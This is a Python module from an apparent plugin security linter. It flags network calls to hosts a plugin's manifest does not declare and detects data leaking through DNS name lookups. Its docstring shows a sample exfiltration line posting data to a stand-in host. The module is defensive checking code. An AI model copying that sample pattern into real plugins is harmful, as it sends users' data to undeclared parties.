"""Ask which hosts the code talks to, and whether the manifest names them.

Whoever installs a plugin reads where its data may go.

Bad::

    requests.post("https://collect.example", json=data)      # and no network_hosts

Good::

    permissions:
      network_hosts: [api.example.com]
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import TYPE_CHECKING

from ..findings import Finding
from .declared import judged, uses
from .subject import Subject

if TYPE_CHECKING:
    from ..analysis.uses import Use

__all__ = ["CATEGORY", "RULES", "check"]

RULES = ("undeclared-network", "declared-network", "unproven-network", "name-lookup-leak")
CATEGORY = "network"
_MEMORY = re.compile(r"sqlite(?:\+\w+)?:(?://)?(?:/:memory:.*)?")


def check(subject: Subject) -> Iterator[Finding]:
    """Yield each use of the network."""
    for use in uses(subject, "network"):
        if use.targets and all(_MEMORY.fullmatch(one) for one in use.targets):
            continue  # a database in this process
        yield judged(subject, use, "network")
        leak = _leak(use)
        if leak is not None:
            yield leak


def _leak(use: Use) -> Finding | None:
    """Return what a name lookup gives away whose name is made of data."""
    if use.meaning.subject != "host" or "connect" in use.name:
        return None
    for target in use.targets:
        made, dots, rest = target.partition("…")
        if dots and not made.strip(".") and rest.count(".") >= 2:
            message = f"{use.name} asks for names that are made of data: they reach whoever owns "
            message += rest.strip(".")
            return Finding(
                *("name-lookup-leak", "critical", message),
                path=use.path,
                line=use.line,
                column=use.column,
                category="exfiltration",
                confidence="likely",
                evidence=use.text,
            )
    return None
